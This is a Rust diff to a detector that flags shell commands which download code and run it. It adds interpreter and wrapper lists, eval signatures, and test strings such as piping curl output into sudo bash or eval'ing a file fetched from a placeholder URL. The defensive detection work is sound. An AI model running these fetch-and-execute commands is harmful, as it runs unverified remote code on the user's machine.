@@ -4,6 +4,7 @@ pub(super) mod damage;
 mod origin;
 pub(super) mod persistence;
 pub(super) mod secrets;
+pub(super) mod sockets;
 pub(super) mod stages;
 pub(super) mod tunnels;
 mod windows;
@@ -39,13 +40,62 @@ const FETCH: &[&str] = &[
     "ssh",
 ];
 /// Shells: they run what they read.
-const SHELLS: &[&str] = &["ash", "bash", "csh", "dash", "fish", "iex", "invoke-expression", "ksh", "sh", "tcsh", "zsh"];
+const SHELLS: &[&str] = &[
+    "ash",
+    "bash",
+    "csh",
+    "dash",
+    "fish",
+    "iex",
+    "invoke-expression",
+    "ksh",
+    "mksh",
+    "rbash",
+    "sh",
+    "tcsh",
+    "yash",
+    "zsh",
+];
 /// Interpreters: they run what they read unless they are told what to run.
-const INTERPRETERS: &[&str] = &["lua", "node", "perl", "php", "pwsh", "python", "python2", "python3", "ruby"];
+const INTERPRETERS: &[&str] = &[
+    "ipython", "julia", "lua", "luajit", "node", "perl", "php", "pwsh", "pypy", "pypy3", "python", "python2",
+    "python3", "r", "rscript", "ruby", "tclsh",
+];
 /// Words before the program that a command runs.
 const PREFIXES: &[&str] = &[
-    "(", "builtin", "busybox", "command", "coproc", "do", "doas", "elif", "else", "env", "exec", "if", "nice", "nohup",
-    "setsid", "stdbuf", "sudo", "then", "time", "timeout", "until", "while", "{",
+    "(",
+    "builtin",
+    "busybox",
+    "chroot",
+    "command",
+    "coproc",
+    "do",
+    "doas",
+    "elif",
+    "else",
+    "env",
+    "exec",
+    "if",
+    "ionice",
+    "nice",
+    "nohup",
+    "nsenter",
+    "proxychains",
+    "proxychains4",
+    "setsid",
+    "stdbuf",
+    "sudo",
+    "taskset",
+    "then",
+    "time",
+    "timeout",
+    "torify",
+    "torsocks",
+    "unbuffer",
+    "unshare",
+    "until",
+    "while",
+    "{",
 ];
 /// Programs that connect their streams to another machine.
 const WIRES: &[&str] = &["nc", "nc.openbsd", "nc.traditional", "ncat", "netcat", "telnet"];
@@ -58,7 +108,11 @@ pub(super) fn fetches_and_runs(text: &str) -> bool {
                 commands.iter().position(|command| program(command).is_some_and(|program| FETCH.contains(&program)));
             fetched.is_some_and(|at| commands.iter().skip(at.saturating_add(1)).any(|command| reads_program(command)))
         });
-    piped || puts(text, prints_fetched) || reads_wire(text) || windows::fetches_and_runs(text)
+    piped
+        || puts(text, prints_fetched)
+        || evaluates_fetched(text)
+        || reads_wire(text)
+        || windows::fetches_and_runs(text)
 }
 
 /// A descriptor on a socket that a shell reads: `exec 3<>/dev/tcp/…; cat <&3 | sh`.
@@ -79,6 +133,11 @@ pub(super) fn is_from_publisher(text: &str) -> bool {
 /// Whether it comes from a host of code at worst, under anyone's name.
 pub(super) fn is_from_host(text: &str) -> bool {
     origin::worst(text).is_some_and(|origin| origin <= Origin::Host)
+}
+
+/// Whether it comes from a mirror of packages, over whatever connection.
+pub(super) fn is_from_mirror(text: &str) -> bool {
+    origin::is_mirror(text)
 }
 
 /// Whether it comes over a connection that proves who answers.
@@ -110,7 +169,8 @@ pub(super) fn wires_shell(text: &str) -> bool {
 
 /// The text without ampersands that join no commands: `2>&1`.
 fn plain(text: &str) -> String {
-    if text.contains('>') { text.replace(">&", ">").replace("&>", ">") } else { text.to_owned() }
+    let text = if text.contains("|&") { text.replace("|&", "|") } else { text.to_owned() };
+    if text.contains('>') { text.replace(">&", ">").replace("&>", ">") } else { text }
 }
 
 /// The pipelines of a text: commands as words, without quotation marks. Quotes do not shield operators here: what is
@@ -141,24 +201,120 @@ fn program_and_rest<'t, 'c>(command: &'c [&'t str]) -> Option<(&'t str, &'c [&'t
         if !prefix {
             return Some((name.strip_suffix(".exe").unwrap_or(name), after));
         }
-        rest = after;
+        // `sudo -u name`, `chroot folder`
+        let valued = options && matches!(*first, "-u" | "-g" | "-iu" | "--user" | "--group");
+        let takes = (valued || name == "chroot" && after.len() > 1) && !after.is_empty();
+        rest = if takes { after.get(1..).unwrap_or_default() } else { after };
     }
     None
 }
 
 /// Whether a command runs the program that it reads.
 fn reads_program(command: &[&str]) -> bool {
-    let Some((program, rest)) = program_and_rest(command) else { return false };
+    // `sudo -i` is a shell itself.
+    let Some((program, rest)) = program_and_rest(command) else {
+        let begins = |word: &str| matches!(word, "-i" | "-s" | "-iu" | "-su");
+        return matches!(command.first(), Some(&("sudo" | "doas"))) && command.iter().any(|word| begins(word));
+    };
     match program {
+        "su" => !rest.iter().any(|word| word.starts_with("-c") || *word == "--command"),
         "xargs" => rest.iter().any(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default())),
-        program if SHELLS.contains(&program) || program.starts_with("$(which") => !rest.contains(&"-c"),
+        program if SHELLS.contains(&program) || program.starts_with("$(which") => {
+            let script = rest.iter().position(|word| *word == "-c").and_then(|at| rest.get(at.saturating_add(1)..));
+            script.is_none_or(runs_input)
+        }
         "cmd" => rest.iter().all(|word| matches!(*word, "/q" | "/v:on")),
         "powershell" | "pwsh" => rest.is_empty() || rest.contains(&"-"),
-        program if INTERPRETERS.contains(&program) || program.starts_with("python3.") => rest
-            .iter()
-            .all(|word| matches!(*word, "-" | "-u" | "-E" | "-I" | "-w") || word.starts_with(['>', '<', '2'])),
+        program if INTERPRETERS.contains(&program) || program.starts_with("python3.") => {
+            interprets_input(program, rest)
+        }
         _ => false,
     }
+}
+
+/// Whether the script of `sh -c` runs what it reads in turn.
+fn runs_input(script: &[&str]) -> bool {
+    match script {
+        ["source" | ".", "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0", ..] => true,
+        ["eval", "$", "cat" | "<" | "</dev/stdin", ..] => true,
+        _ => reads_program(script),
+    }
+}
+
+/// Whether an interpreter is given no code and no file, so that it runs what it reads.
+fn interprets_input(program: &str, rest: &[&str]) -> bool {
+    let python = program.starts_with("py") || program == "ipython";
+    let mut words = rest.iter();
+    while let Some(word) = words.next() {
+        match *word {
+            "-" => return true,
+            "-W" | "-w" | "-X" | "-x" if python => {
+                words.next();
+            }
+            "--eval" | "--print" | "--version" | "--help" | "--run" => return false,
+            word if word.starts_with("--") || word.starts_with(['>', '<', '2']) => {}
+            word => {
+                let Some(flags) = word.strip_prefix('-') else { return false };
+                let code: &[char] =
+                    if python { &['c', 'm', 'V', 'h'] } else { &['c', 'e', 'E', 'f', 'm', 'n', 'p', 'r', 'v', 'h'] };
+                if flags.contains(code) {
+                    return false;
+                }
+            }
+        }
+    }
+    true
+}
+
+/// Signs by which code evaluates what stands behind them, not the blocks that only catch what fails.
+const EVALUATES: &[&str] = &[
+    "assert(file_get",
+    "eval $",
+    "eval (",
+    "eval file",
+    "eval get",
+    "eval lwp",
+    "eval open",
+    "eval qx",
+    "eval uri",
+    "eval(",
+    "eval`",
+    "import 'http",
+    "import \"http",
+    "import('http",
+    "import(\"http",
+    "include 'http",
+    "include \"http",
+    "include('http",
+    "include(\"http",
+    "instance_eval",
+    "class_eval",
+    "loadstring(",
+    "new function(",
+    "require 'http",
+    "require \"http",
+    "require('http",
+    "require(\"http",
+    "runincontext",
+    "runinnewcontext",
+    "runinthiscontext",
+    "source('http",
+    "source(\"http",
+];
+
+/// Whether an interpreter is given code that fetches and evaluates: `php -r 'eval(file_get_contents("https://…"));'`.
+fn evaluates_fetched(text: &str) -> bool {
+    if !text.contains("://") || !EVALUATES.iter().any(|sign| text.contains(sign)) {
+        return false;
+    }
+    let words: Vec<&str> = text.split_whitespace().collect();
+    let interpreter = words.iter().position(|word| {
+        let name = word.trim_start_matches(['"', '\'', '(']).rsplit('/').next().unwrap_or_default();
+        matches!(name, "bun" | "deno") || INTERPRETERS.contains(&name)
+    });
+    let behind = interpreter.and_then(|at| words.get(at.saturating_add(1)..)).unwrap_or_default();
+    let mut options = behind.iter().take(6);
+    options.any(|word| matches!(*word, "-e" | "-r" | "-ne" | "--eval" | "eval"))
 }
 
 /// Whether what is printed inside a substitution is put where a command or its script stands: `eval "$(curl …)"`,
@@ -193,19 +349,26 @@ fn runs_inside(before: &str, open: &str) -> bool {
     let last = words.next().unwrap_or_default();
     let name = last.rsplit('/').next().unwrap_or_default();
     let shell = |word: &str| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
+    let interprets = |word: &str| {
+        let word = word.rsplit('/').next().unwrap_or_default();
+        shell(word) || INTERPRETERS.contains(&word)
+    };
     let evaluates = |word: &str| {
         let word = word.rsplit(['/', '\\']).next().unwrap_or_default();
         let word = word.strip_suffix(".exe").unwrap_or(word);
-        shell(word) || word.contains("python") || matches!(word, "cmd" | "powershell" | "pwsh")
+        shell(word)
+            || INTERPRETERS.contains(&word)
+            || word.contains("python")
+            || matches!(word, "cmd" | "powershell" | "pwsh")
     };
     // `@(…)` of PowerShell is a value where it stands alone.
     if matches!(open, "$(" | "`") && matches!(last, "" | "do" | "then" | "else" | "{") {
         return true;
     }
-    let takes = |name: &str| name.starts_with(['-', '/']) && name.ends_with(['c', 'k']) || name == "-command";
+    let takes = |name: &str| name.starts_with(['-', '/']) && name.ends_with(['c', 'k', 'e', 'r']) || name == "-command";
     matches!(name, "eval" | "source" | "." | "exec" | "call" | "start" | "iex" | "invoke-expression")
         || file
-            && (shell(name)
+            && (interprets(name)
                 || name.starts_with('-') && words.clone().find(|word| !word.starts_with('-')).is_some_and(shell))
         || takes(last) && words.next().is_some_and(evaluates)
 }
@@ -235,6 +398,25 @@ mod tests {
             "cd a; $(wget -qo- x)",
             "for l in a; do $(curl -s x); done",
             "sh -s < <(curl -s x)",
+            "curl x |& bash",
+            "curl x | sudo -u root bash",
+            "curl x | sudo -iu root",
+            "curl x | su - root",
+            "curl x | python3 - --flag v",
+            "curl x | python3 -w ignore -",
+            "curl x | node --input-type=module",
+            "curl x | perl - arg",
+            "curl x | torsocks bash",
+            "curl x | chroot /mnt bash",
+            "curl x | bash -c \"source /dev/stdin\"",
+            "curl x | bash -c 'eval \"$(cat)\"'",
+            "curl x | sh -c sh",
+            "perl -e \"$(curl x)\"",
+            "php -r \"$(curl x)\"",
+            "python <(curl x)",
+            "node <(curl x)",
+            "php -r 'eval(file_get_contents(\"https://x.example/a\"));'",
+            "ruby -ropen-uri -e 'eval(URI.open(\"https://x.example/a\").read)'",
             "curl x | cmd",
             "curl.exe x | powershell -",
             "cmd /c $(curl.exe -s x)",
@@ -250,6 +432,12 @@ mod tests {
             "curl -s x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
             "curl -s x | jq . | sh -c 'cat'",
             "curl x | perl -ne 'print'",
+            "curl x | python3 parse.py -",
+            "curl x | sudo -u root tee /etc/a",
+            "curl x | su - user -c 'cat > a'",
+            "curl x | ruby -rjson -e 'puts 1'",
+            "node -e 'fetch(\"http://localhost:8000/health\").then(r => process.exit(r.ok ? 0 : 1))'",
+            "perl -e 'eval { get(\"http://x.example\") }'",
             "curl x | tar xz; bash build.sh",
             "version=$(curl -s x); echo $version",
             "echo \"$(curl -s x)\"",
